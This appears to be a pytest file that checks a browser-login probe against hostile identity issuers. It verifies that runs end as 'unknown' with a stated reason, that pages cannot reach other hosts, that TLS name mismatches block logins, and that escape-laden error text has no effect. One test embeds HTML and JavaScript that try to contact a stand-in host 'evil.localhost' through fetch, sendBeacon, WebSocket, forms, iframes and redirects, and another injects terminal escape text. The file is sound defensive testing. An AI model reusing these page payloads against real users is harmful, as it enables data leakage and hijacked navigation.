"""Runs whose users log in by a browser, against issuers that do harm: each ends, and says what it could not see."""

from __future__ import annotations

import re
import ssl
from collections.abc import Sequence
from contextlib import ExitStack
from pathlib import Path

import pytest
import trustme

from harness.probes import browser, browser_login
from tests.hostile.attacks import EVIL, Hostility, sends
from tests.hostile.browser_attacks import BROWSER_ATTACKS, FORM, LATE, SLOW_ATTACKS, page
from tests.hostile.issuer import HostileIssuer, describe, hostile
from tests.hostile.scripted import scripted
from tests.hostile.test_hostile_issuers import CALM, STAGES, call, of, run
from tests.hostile.test_hostile_reports import acting

BY_BROWSER = f'{CALM}\n\n[login]\nby = "browser"'
SESSION = ("TOKEN-12",)
GROUPS = [SLOW_ATTACKS, *(BROWSER_ATTACKS[start : start + 3] for start in range(0, len(BROWSER_ATTACKS), 3))]


@pytest.fixture
def hasty(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where nothing comes, little is waited for."""
    for name, seconds in {"STEP_SECONDS": 1.0, "SETTLED_SECONDS": 0.5, "END_SECONDS": 2.0}.items():
        monkeypatch.setattr(browser_login, name, seconds)


def test_where_no_harm_is_done_a_login_by_browser_succeeds(tmp_path: Path) -> None:
    with hostile(lambda connection, step, honest: connection.sendall(honest)) as issuer:
        told = call("doctor", "--target", describe({"dev": issuer}, tmp_path, BY_BROWSER))
    assert told.exit_code == 0, told.output


@pytest.mark.usefixtures("hasty")
@pytest.mark.parametrize("group", GROUPS, ids=lambda group: ", ".join(one.name for one in group))
def test_what_could_not_be_seen_is_unknown_and_says_why(
    group: Sequence[Hostility], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if group is SLOW_ATTACKS:
        monkeypatch.setattr(browser, "PATIENCE", 2_000)
    with ExitStack() as closing:
        issuers = [closing.enter_context(hostile(one.attack, one.steps)) for one in group]
        told = run(describe(dict(zip(STAGES, issuers, strict=False)), tmp_path, BY_BROWSER), controls=SESSION)
    for stage, one, issuer in zip(STAGES, group, issuers, strict=False):
        found = of(stage, told)
        assert {verdict for verdict, _ in found.values()} == {"unknown"}, (one.name, found)
        assert not any(re.search("crash|Traceback", reason) for _, reason in found.values()), (one.name, found)
        assert all(re.search(f"{one.told}|{LATE}", reason) for _, reason in found.values()), (one.name, found)
        assert len(issuer.asked_for) < browser_login.MOST_PAGES + 10, (one.name, issuer.asked_for)


@pytest.mark.usefixtures("hasty")
def test_a_page_reaches_no_host_that_is_not_the_targets_by_any_way(tmp_path: Path) -> None:
    heard: list[bytes] = []
    with scripted(lambda connection, request: heard.append(request)) as port:
        there = f"evil.localhost:{port}"
        astray = f"""<img src="http://{there}/img"><iframe src="http://{there}/frame"></iframe>
            <a href="http://{there}/link" target=_blank></a><form action="http://{there}/form" target=_blank></form>
            <link rel=prefetch href="http://{there}/prefetch">{FORM}</form><script>
            fetch("http://{there}/fetch", {{mode: "no-cors"}}); navigator.sendBeacon("http://{there}/beacon");
            new WebSocket("ws://{there}/socket"); new EventSource("http://{there}/events"); open("http://{there}/open");
            document.links[0].click(); document.forms[0].submit();
            setTimeout(() => location = "http://{there}/astray", 100)</script>"""
        redirect = f"<meta http-equiv=refresh content='0;http://{there}/'>"
        with hostile(sends(page(astray)), ("login",)) as one, hostile(sends(page(redirect)), ("login",)) as other:
            told = run(describe({"dev": one, "prod": other}, tmp_path, BY_BROWSER), controls=SESSION)
    assert heard == []
    for stage in ("dev", "prod"):
        verdict, reason = of(stage, told)["TOKEN-12.E1"]
        assert (verdict, "ended without a code" in reason) == ("unknown", True), reason


@pytest.mark.usefixtures("hasty")
def test_nobody_types_a_password_where_the_certificate_is_for_another_name(tmp_path: Path) -> None:
    authority = trustme.CA()
    authority.cert_pem.write_to_path(str(tmp_path / "ca.pem"))

    def serving(name: str) -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        authority.issue_cert(name).configure_cert(context)
        return context

    class Split(HostileIssuer):
        def metadata(self) -> dict[str, object]:
            return {**super().metadata(), "authorization_endpoint": f"{other.url}/authorization"}

    with (
        hostile(lambda *_: None, (), serving("id.example.com")) as other,
        hostile(lambda *_: None, (), serving("localhost"), Split) as issuer,
    ):
        told = run(describe({"dev": issuer}, tmp_path, BY_BROWSER, 'ca_file = "ca.pem"'), controls=SESSION)
    assert other.asked_for == []
    verdict, reason = of("dev", told)["TOKEN-12.E1"]
    assert (verdict, bool(re.search(f"the browser says: |{LATE}", reason))) == ("unknown", True), reason


@pytest.mark.usefixtures("hasty")
def test_what_a_page_says_in_hostile_words_acts_nowhere(tmp_path: Path) -> None:
    words = "".join(f"\\u{ord(letter):04x}" for letter in EVIL)
    with hostile(lambda *_: None, ("authorize",)) as issuer:
        there = f"'{issuer.redirect_uri}?error=' + encodeURIComponent('{words}'.toWellFormed())"
        issuer.attack = sends(page(f"<script>location = {there}</script>{EVIL}"))
        told = call("doctor", "--target", describe({"dev": issuer}, tmp_path, BY_BROWSER))
    assert told.exit_code == 1
    assert "x1b" in told.output, "nothing hostile was told at all"
    assert acting(told.output) == set()
